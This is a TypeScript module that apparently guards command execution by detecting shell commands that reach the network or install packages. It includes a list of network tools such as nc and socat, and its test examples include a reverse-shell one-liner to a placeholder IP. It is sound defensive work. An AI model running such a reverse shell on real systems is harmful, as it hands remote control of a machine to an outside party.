import { argTexts, operandsOf, type ProgramCall } from '../program-call.ts';
import { type GuardRow, spanOf } from './guard-row.ts';

/** Programs that are there to reach the network. */
const CLIENTS = new Set(
  (
    'curl wget http https aria2c ssh sftp scp ftp lftp tftp telnet nc ncat netcat socat dig nslookup host whois ' +
    'ping ping6 traceroute tracepath mtr nmap mosh rclone s3cmd yt-dlp youtube-dl lynx links w3m elinks axel ' +
    'gh glab hub az aws gcloud gsutil kubectl helm heroku vercel netlify fly flyctl wrangler firebase doctl'
  ).split(' '),
);

/** Subcommands that need the network, and those among them that install packages. */
interface Subcommands {
  readonly network: RegExp;
  readonly installs?: RegExp;
}

const NODE_PACKAGES: Subcommands = {
  network:
    /^(install|i|in|add|ci|clean-install|update|up|upgrade|publish|audit|outdated|view|info|show|search|login|logout|whoami|ping|dlx|exec|x|create|install-test|it|dedupe|import|fetch)$/,
  installs:
    /^(install|i|in|add|ci|clean-install|update|up|upgrade|install-test|it|dlx|exec|x|create)$/,
};
const SYSTEM_PACKAGES: Subcommands = {
  network:
    /^(install|update|upgrade|dist-upgrade|full-upgrade|add|reinstall|download|build-dep|refresh|sync|fetch|search|makecache|in|dup|up|source|-S\w*|tap)$/,
  installs: /^(install|upgrade|dist-upgrade|full-upgrade|add|reinstall|build-dep|in|dup|-S\w*)$/,
};
const PYTHON_PACKAGES: Subcommands = {
  network:
    /^(install|download|search|add|sync|update|upgrade|lock|publish|create|index|wheel|run|tool)$/,
  installs: /^(install|add|sync|update|upgrade|create|run|tool)$/,
};

const SUBCOMMANDS: ReadonlyMap<string, Subcommands> = new Map<string, Subcommands>([
  ['git', { network: /^(clone|fetch|pull|push|ls-remote|svn|p4|send-email|request-pull)$/ }],
  ...['npm', 'pnpm', 'yarn', 'bun'].map((name) => [name, NODE_PACKAGES] as const),
  ...['pip', 'pip3', 'pipx', 'poetry', 'conda', 'mamba', 'pdm', 'uv'].map(
    (name) => [name, PYTHON_PACKAGES] as const,
  ),
  ...[
    'apt',
    'apt-get',
    'aptitude',
    'dnf',
    'yum',
    'zypper',
    'apk',
    'brew',
    'pacman',
    'snap',
    'flatpak',
    'port',
  ].map((name) => [name, SYSTEM_PACKAGES] as const),
  [
    'cargo',
    { network: /^(install|add|fetch|update|search|publish|login)$/, installs: /^(install|add)$/ },
  ],
  ['go', { network: /^(get|install)$/, installs: /^(get|install)$/ }],
  ['gem', { network: /^(install|update|push|fetch|search)$/, installs: /^(install|update)$/ }],
  ['bundle', { network: /^(install|update|add|outdated)$/, installs: /^(install|update|add)$/ }],
  [
    'composer',
    {
      network: /^(install|require|update|create-project)$/,
      installs: /^(install|require|update)$/,
    },
  ],
  ['docker', { network: /^(pull|push|login|search)$/ }],
  ['podman', { network: /^(pull|push|login|search)$/ }],
  ['openssl', { network: /^(s_client|s_server|ocsp|s_time)$/ }],
  ['terraform', { network: /^(init|plan|apply|destroy|refresh|import)$/ }],
]);

/** Programs that fetch a package and run it, unless told to use only what is there. */
const PACKAGE_RUNNERS = new Set(['npx', 'bunx', 'pnpx', 'uvx']);
const ONLY_LOCAL = /^(--no-install|--no|--offline|--prefer-offline)$/;
const ONLY_ASKS = /^(-[hV]|--?(help|version))$/;
const HAS_REMOTE = /^([\w.-]+@)?[\w.-]+:|^rsync:\/\//;

function findNetwork(call: ProgramCall): string | undefined {
  return reachesNetwork(call) ? spanOf(call) : undefined;
}

function reachesNetwork(call: ProgramCall): boolean {
  const { program } = call;
  if (opensSocket(call)) return true;
  if (CLIENTS.has(program)) return !onlyAsks(call);
  if (PACKAGE_RUNNERS.has(program)) return runsRemotePackage(call);
  if (program === 'rsync') return operandsOf(call).some(({ text }) => HAS_REMOTE.test(text));
  return wordsOf(call, 'network') || gitReachesOut(call);
}

function opensSocket(call: ProgramCall): boolean {
  const texts = [...argTexts(call), ...call.redirects.map(({ target }) => target.text)];
  return texts.some((text) => /^\/dev\/(tcp|udp)\//.test(text));
}

function onlyAsks(call: ProgramCall): boolean {
  const texts = argTexts(call);
  return texts.length > 0 && texts.every((text) => ONLY_ASKS.test(text));
}

function runsRemotePackage(call: ProgramCall): boolean {
  const texts = argTexts(call);
  return !texts.some((text) => ONLY_LOCAL.test(text)) && !ONLY_ASKS.test(texts[0] ?? '--help');
}

/** Whether the subcommand (also of `python -m pip`, `uv pip`) is one of the kind. */
function wordsOf(call: ProgramCall, kind: keyof Subcommands): boolean {
  const texts = argTexts(call);
  if (texts.includes('--offline') || texts.includes('--no-install')) return false;
  const module = /^python[\d.]*$/.test(call.program) ? texts.indexOf('-m') + 1 : 0;
  if (module > 0) return isPythonInstaller(texts.slice(module), kind);
  const known = SUBCOMMANDS.get(call.program)?.[kind];
  const words = subcommandWords(call);
  if (known === undefined) return false;
  if (words.length === 0)
    return call.program === 'yarn' && !texts.some((text) => ONLY_ASKS.test(text));
  return words.some((word) => known.test(word));
}

function isPythonInstaller(words: readonly string[], kind: keyof Subcommands): boolean {
  const [module = '', subcommand = ''] = words;
  return /^(pip|uv)$/.test(module) && (PYTHON_PACKAGES[kind]?.test(subcommand) ?? false);
}

const VALUED_OPTION = /^(-C|-c|--git-dir|--work-tree|--prefix|--cwd|--dir|-H|--host)$/;
const GROUPING_WORD = /^(pip|global|mod|compose|image|tool)$/;

/**
 * What may be the subcommand: the first word that is no option, the next one as well where the first may be the
 * value of an option or only names a group.
 */
function subcommandWords(call: ProgramCall): readonly string[] {
  const texts = argTexts(call);
  if (call.program === 'pacman') return texts.filter((text) => /^-S/.test(text));
  const words: string[] = [];
  for (const [at, text] of texts.entries()) {
    const before = texts[at - 1] ?? '';
    if (text.startsWith('-') || VALUED_OPTION.test(before)) continue;
    words.push(text);
    const mayBeValue = before.startsWith('-') && !before.includes('=');
    if (!mayBeValue && !GROUPING_WORD.test(text)) break;
  }
  return words;
}

function gitReachesOut(call: ProgramCall): boolean {
  if (call.program !== 'git') return false;
  const words = argTexts(call).filter((text) => !text.startsWith('-'));
  const first = subcommandWords(call).at(-1) ?? '';
  const second = words[words.indexOf(first) + 1] ?? '';
  if (first === 'submodule') return /^(update|add|sync)$/.test(second);
  if (first === 'remote') return /^(update|show|prune|set-head)$/.test(second);
  return first === 'archive' && argTexts(call).some((text) => text.startsWith('--remote'));
}

function findInstall(call: ProgramCall): string | undefined {
  const runner = PACKAGE_RUNNERS.has(call.program) && runsRemotePackage(call);
  return runner || wordsOf(call, 'installs') ? spanOf(call) : undefined;
}

export const networkRows: readonly GuardRow[] = [
  {
    key: 'network_access',
    find: findNetwork,
    examples: {
      yes: [
        'curl -s https://example.com',
        'wget https://example.com/a.zip',
        'git push origin main',
        'git -C sub pull --rebase',
        'git submodule update --init',
        'npm install lodash',
        'yarn',
        'pip install requests',
        'python3 -m pip install requests',
        'uv pip install x',
        'ssh dev@host.example uptime',
        'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
        'npx create-app demo',
        'env HTTPS_PROXY= curl https://example.com',
        "sh -c 'wget -q https://example.com'",
        'docker pull alpine:3',
        'rsync -a src/ host.example:/srv/',
        'pip --timeout 3 install x',
        'apt -o A=b install x',
        'apt-get install -y jq',
      ],
      no: [
        'git status',
        'git remote -v',
        'npm test',
        'npm run build',
        "grep -rn 'curl https://' docs",
        "git commit -m 'curl retry'",
        "echo 'pip install foo'",
        'npx --no-install vitest',
        'curl --version',
        'rsync -a a/ b/',
        'python -m pytest',
      ],
    },
  },
  {
    key: 'package_install',
    find: findInstall,
    examples: {
      yes: [
        'npm ci',
        'npm i -D x',
        'pip3 install x',
        'sudo apt install jq',
        'npx cowsay hi',
        'go get x',
      ],
      no: ['npm test', 'npm view x', 'apt list', 'pip list', 'git pull', 'cargo build'],
    },
  },
];
